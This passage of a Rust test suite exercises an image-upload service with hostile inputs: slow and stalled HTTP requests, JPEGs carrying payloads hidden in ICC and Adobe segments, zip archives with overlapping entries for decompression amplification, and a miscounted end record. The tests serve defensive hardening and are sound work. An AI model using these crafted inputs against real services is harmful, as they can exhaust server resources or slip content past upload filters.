async fn slow_stalled_and_cut_off_uploads_leave_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(
        dir.path(),
        &[
            "--header-timeout-secs",
            "1",
            "--body-idle-timeout-secs",
            "1",
        ],
    );
    let zip = ZipBuilder::new()
        .stored("good.jpg", &jpeg(6000, 640, 480))
        .stored("other.jpg", &jpeg(6001, 640, 480))
        .finish();
    let post = |length: usize| {
        format!(
            "POST /v1/batches HTTP/1.1\r\nHost: picsift\r\nAuthorization: Bearer {}\r\nContent-Type: application/zip\r\nContent-Length: {length}\r\n\r\n",
            server.key
        )
    };
    // A slow head: the request line and one header, then nothing.
    let answer = raw_exchange(
        &server,
        "POST /v1/batches HTTP/1.1\r\nHost: picsift\r\n",
        b"",
        false,
    )
    .await;
    assert!(
        answer
            .as_deref()
            .is_none_or(|a| a.starts_with("HTTP/1.1 408")),
        "{answer:?}"
    );
    assert_clean(&server, 0, "slow head").await;
    // A stalled body: half the zip, then silence.
    let answer = raw_exchange(&server, &post(zip.len()), &zip[..zip.len() / 2], false)
        .await
        .expect("an answer to a stalled body");
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("problems/body-timeout"), "{answer}");
    assert_clean(&server, 0, "stalled body").await;
    // A cut-off transfer: Content-Length promises the whole zip, the client
    // sends half of it and closes its side.
    let answer = raw_exchange(&server, &post(zip.len()), &zip[..zip.len() / 2], true).await;
    if let Some(a) = &answer {
        assert!(a.starts_with("HTTP/1.1 400"), "{a}");
        assert!(
            a.contains("problems/bad-request") && a.contains("cut off"),
            "{a}"
        );
    }
    assert_clean(&server, 0, "cut-off transfer").await;
    // Bodies declaring more than --max-upload-bytes get 413 before they are
    // read: upload.rs, refused_uploads_answer_problems_and_leave_nothing_behind.
    check_batch(
        &server,
        zip,
        &[("good.jpg", Accepted), ("other.jpg", Accepted)],
    )
    .await;
}

// Bugs found by the catalogue: each test states the correct behaviour and
// is ignored until the product has it (see tests/bad_inputs/README.md).

#[tokio::test(flavor = "multi_thread")]
async fn payload_in_an_icc_segment_is_not_stored() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let zip = ZipBuilder::new()
        .stored("good.jpg", &jpeg(7000, 320, 240))
        .stored("icc_payload.jpg", &icc_smuggler(7001))
        .finish();
    let report = check_batch(
        &server,
        zip,
        &[("good.jpg", Accepted), ("icc_payload.jpg", Accepted)],
    )
    .await;
    let stored = stored_bytes(&server, &report, "icc_payload.jpg").await;
    assert!(!contains(&stored, SMUGGLED), "the payload is stored");
}

#[tokio::test(flavor = "multi_thread")]
async fn payload_after_the_adobe_segment_fields_is_not_stored() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let zip = ZipBuilder::new()
        .stored("good.jpg", &jpeg(7100, 320, 240))
        .stored("adobe_payload.jpg", &adobe_smuggler(7101))
        .finish();
    let report = check_batch(
        &server,
        zip,
        &[("good.jpg", Accepted), ("adobe_payload.jpg", Accepted)],
    )
    .await;
    let stored = stored_bytes(&server, &report, "adobe_payload.jpg").await;
    assert!(!contains(&stored, SMUGGLED), "the payload is stored");
}

#[tokio::test(flavor = "multi_thread")]
async fn overlapping_entries_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let zip = ZipBuilder::new()
        .stored("good.jpg", &jpeg(7200, 320, 240))
        .stored("kernel.jpg", &jpeg(7201, 320, 240))
        .finish();
    // 50 more names for kernel.jpg's one copy of the data. A kernel that
    // inflates 49:1 to max_entry_bytes makes each record 64 MiB of work.
    let zip = overlapping_entries(&zip, "kernel.jpg", 50);
    let (status, body, _) = server.upload(zip, "").await;
    if status != 202 {
        assert_eq!(status, 400, "{body}");
        assert!(
            body["detail"]
                .as_str()
                .is_some_and(|d| d.contains("overlap")),
            "{body}"
        );
        assert_clean(&server, 0, "overlapping entries").await;
        return;
    }
    // Or: the archive is processed, and every record that reuses another's
    // data is rejected.
    let id = body["id"].as_str().unwrap();
    server.wait_done(id).await;
    let report = server.report(id).await;
    for l in &report {
        let entry = l["entry"].as_str().unwrap();
        if entry.starts_with("overlap_") {
            assert_eq!(l["verdict"], "rejected", "{l}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_end_record_that_under_declares_its_entries_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let mut parts = tiny_entries(75_535);
    let good = ZipBuilder::new()
        .stored("good.jpg", &jpeg(7300, 320, 240))
        .finish();
    // good.jpg first, the tiny entries after it (their offsets moved along).
    let good = picsift_tests::ZipParts::split(&good);
    let shift = good.local.len() as u32;
    for record in &mut parts.central {
        let offset = u32::from_le_bytes(record[42..46].try_into().unwrap()) + shift;
        record[42..46].copy_from_slice(&offset.to_le_bytes());
    }
    parts.local = [good.local, parts.local].concat();
    parts.central.insert(0, good.central[0].clone());
    let (status, body, _) = server
        .upload(parts.join_declaring(75_536 % 65_536, false), "")
        .await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(
        body["type"], "https://picsift.io/problems/upload-too-large",
        "{body}"
    );
    assert_clean(&server, 0, "under-declared entries").await;
}
